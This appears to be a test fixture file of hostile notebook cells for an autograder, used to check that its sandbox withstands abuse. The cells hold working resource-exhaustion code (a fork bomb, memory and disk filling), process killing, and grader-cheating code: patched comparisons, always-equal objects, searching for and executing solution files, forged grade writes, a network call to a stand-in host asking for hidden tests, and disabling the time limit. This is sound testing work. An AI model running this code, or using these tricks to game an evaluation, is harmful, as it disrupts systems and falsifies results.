# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
# ---

# %% [markdown]
# Cells that attack the grading. Each is put into a solved notebook, in front or (`at_end`) behind; NAMES holds the names of the
# answers. `keeps` says whether the answers beside it still get their marks; where not, the notebook must get nothing.

# %% hostile="endless loop" keeps=true
while True:
    pass

# %% hostile="endless loop that catches what interrupts it" keeps=false
while True:
    try:
        while True:
            pass
    except BaseException:
        pass

# %% hostile="fork bomb" keeps=false
import os

while True:
    os.fork()

# %% hostile="processes left behind" keeps=true
import subprocess
import sys

for _ in range(5):
    subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(3600)"], start_new_session=True
    )


# %% hostile="memory hog" keeps=true
def hog():
    taken = []  # given back when the function fails: what a cell keeps for good, the cells after it do not have
    while True:
        taken.append(bytearray(100_000_000))


hog()

# %% hostile="memory hog that fills what it gets, in many processes" keeps=false
import os

for _ in range(5):
    os.fork()
hog = []
while True:
    try:
        hog.append(b"x" * 10_000_000)
    except MemoryError:
        pass

# %% hostile="crash" keeps=false
import ctypes

ctypes.string_at(0)

# %% hostile="os._exit" keeps=false
import os

os._exit(0)

# %% hostile="sys.exit" keeps=true
import sys

sys.exit(0)

# %% hostile="kills its parent and itself" keeps=false
import os
import signal

for process in (os.getppid(), 1, os.getpid()):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
os.killpg(0, signal.SIGKILL)

# %% hostile="200 MB of output" keeps=true
for _ in range(200):
    print("x" * 1_000_000)

# %% hostile="fills the disk" keeps=true
for number in range(1000):
    with open(f"file{number}", "wb") as file:
        file.write(bytes(10_000_000))


# %% hostile="endless recursion" keeps=true
def again(n):
    return again(n + 1)


again(0)

# %% hostile="breaks the comparisons of its own process" keeps=false at_end=true
import lessonlib.comparing

lessonlib.comparing.difference = lambda *arguments, **options: None
lessonlib.comparing.to_json = lambda value: {"array": ["1e999"], "shape": [-1], "kind": "f"}


# %% hostile="deceives about equality" keeps=false at_end=true
class Equal(str):
    __eq__ = __ge__ = __le__ = lambda self, other: True
    __hash__ = str.__hash__
    strip = casefold = lambda self: self


globals().update({name: (lambda *arguments: Equal()) for name in NAMES})

# %% hostile="looks for the solution" keeps=false at_end=true
import pathlib
import sys

globals().update(dict.fromkeys(NAMES))
processes = [
    pathlib.Path(f"/proc/{number}/{link}") for number in range(1, 5000) for link in ("cwd", "root")
]
places = [pathlib.Path(part) for part in sys.path if part] + processes + [pathlib.Path.cwd()]
for place in {folder for start in places for folder in (start, *start.parents)}:
    for pattern in (
        "source/[0-9]*.py",
        "exercises/source/[0-9]*.py",
        "solutions/*.ipynb",
        "source/*/*.ipynb",
        "secret.txt",
    ):
        try:
            for found in place.glob(pattern):
                exec(found.read_text())
        except Exception:
            pass
for module in ("exercises.grading.exercise", "exercises.grading.grade"):
    try:
        __import__(module)
        raise SystemExit("found the grader")
    except ImportError:
        pass

# %% hostile="writes its own grade" keeps=false at_end=true
import json
import os
import pathlib

globals().update(dict.fromkeys(NAMES))
lines = [{"question": name, "got": [True], "points": 99, "fault": ""} for name in NAMES]
forged = "\n".join(json.dumps(line) for line in [*lines, {"done": True}]) + "\n"
for number in range(3, 64):
    try:
        os.write(number, forged.encode())
    except OSError:
        pass
for place in (
    pathlib.Path.cwd(),
    *pathlib.Path.cwd().parents,
    pathlib.Path.home(),
    pathlib.Path("/tmp"),
):
    for name in ("grades.csv", "gradebook.db", "results/x.json"):
        try:
            (place / name).write_text("me,100")
        except OSError:
            pass

# %% hostile="uses the network" keeps=false at_end=true
import socket

globals().update(dict.fromkeys(NAMES))
socket.create_connection(("192.0.2.1", 80), timeout=2).sendall(b"hidden tests, please")

# %% hostile="leaves a thread that never ends" keeps=true
import threading


def spin():
    while True:
        pass


threading.Thread(target=spin).start()

# %% hostile="takes the time limit away" keeps=true
import signal

signal.setitimer(signal.ITIMER_REAL, 0)
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.setitimer = signal.alarm = lambda *arguments: None
